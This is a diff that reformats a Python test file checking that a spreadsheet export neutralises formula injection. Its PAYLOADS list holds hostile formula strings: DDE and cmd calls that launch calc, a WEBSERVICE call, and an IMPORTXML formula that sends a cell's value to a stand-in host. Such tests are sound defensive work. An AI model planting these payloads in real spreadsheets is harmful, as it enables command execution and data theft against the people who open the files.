@@ -32,8 +32,17 @@ from qiaomen.sheets.models import Export
 from qiaomen.sheets.rules.trace import Filed, extract_marks, marks_of, rank
 from qiaomen.sheets.tests.test_grid import head, person, town  # noqa: F401
 
-SOME = [[n, f"王{'一二三四五六七八九十'[n % 10]}{n}", "户主", id_no(200 + n), f"138000{n:05d}", f"学府里{n // 20 + 2}-1-{100 + n}"]
-        for n in range(1, 61)]  # fmt: skip
+SOME = [
+    [
+        n,
+        f"王{'一二三四五六七八九十'[n % 10]}{n}",
+        "户主",
+        id_no(200 + n),
+        f"138000{n:05d}",
+        f"学府里{n // 20 + 2}-1-{100 + n}",
+    ]
+    for n in range(1, 61)
+]
 
 
 @pytest.fixture
@@ -173,11 +182,32 @@ def test_nothing_and_too_much_make_no_file(town: Organisation, worker: Staff, mo
 
 # ---- the file itself ----
 
-PAYLOADS = [f"{start}{body}" for start in ("=", "+", "-", "@", "\t=", "\r=", "＝", "=-", " =", "|") for body in (
-    "1+1", "cmd|' /C calc'!A0", 'HYPERLINK("http://x","点我")', "SUM(A1:A9)", "DDE(\"cmd\";\"/C calc\";\"x\")",
-    'WEBSERVICE("http://x")', "IMPORTXML(CONCAT(\"http://x?v=\",A1),\"//a\")", "1;=1", '"&A1&"', "{=1}",
-    "A1", "@SUM(1)", "'=1", "0x1", "1e9", "http://x", "mailto:x@x", "file:///c:/x", "internal:'Sheet'!A1", "TRUE",
-)]  # fmt: skip
+PAYLOADS = [
+    f"{start}{body}"
+    for start in ("=", "+", "-", "@", "\t=", "\r=", "＝", "=-", " =", "|")
+    for body in (
+        "1+1",
+        "cmd|' /C calc'!A0",
+        'HYPERLINK("http://x","点我")',
+        "SUM(A1:A9)",
+        'DDE("cmd";"/C calc";"x")',
+        'WEBSERVICE("http://x")',
+        'IMPORTXML(CONCAT("http://x?v=",A1),"//a")',
+        "1;=1",
+        '"&A1&"',
+        "{=1}",
+        "A1",
+        "@SUM(1)",
+        "'=1",
+        "0x1",
+        "1e9",
+        "http://x",
+        "mailto:x@x",
+        "file:///c:/x",
+        "internal:'Sheet'!A1",
+        "TRUE",
+    )
+]
 
 
 def test_no_payload_lives() -> None:
@@ -195,9 +225,17 @@ def assert_plain(content: bytes) -> None:
     with zipfile.ZipFile(io.BytesIO(content)) as file:
         parts = {name: file.read(name).decode() for name in file.namelist()}
     assert set(parts) == {
-        "[Content_Types].xml", "_rels/.rels", "docProps/app.xml", "docProps/core.xml", "xl/workbook.xml",
-        "xl/_rels/workbook.xml.rels", "xl/worksheets/sheet1.xml", "xl/styles.xml", "xl/theme/theme1.xml", "xl/sharedStrings.xml",
-    }  # fmt: skip
+        "[Content_Types].xml",
+        "_rels/.rels",
+        "docProps/app.xml",
+        "docProps/core.xml",
+        "xl/workbook.xml",
+        "xl/_rels/workbook.xml.rels",
+        "xl/worksheets/sheet1.xml",
+        "xl/styles.xml",
+        "xl/theme/theme1.xml",
+        "xl/sharedStrings.xml",
+    }
     sheet, book = parts["xl/worksheets/sheet1.xml"], parts["xl/workbook.xml"]
     assert not re.search(r"<f[ >/]|hyperlink|hidden|legacyDrawing|dataValidation|oleObject", sheet)
     assert set(re.findall(r' t="(\w+)"', sheet)) <= {"s"} and "inlineStr" not in sheet
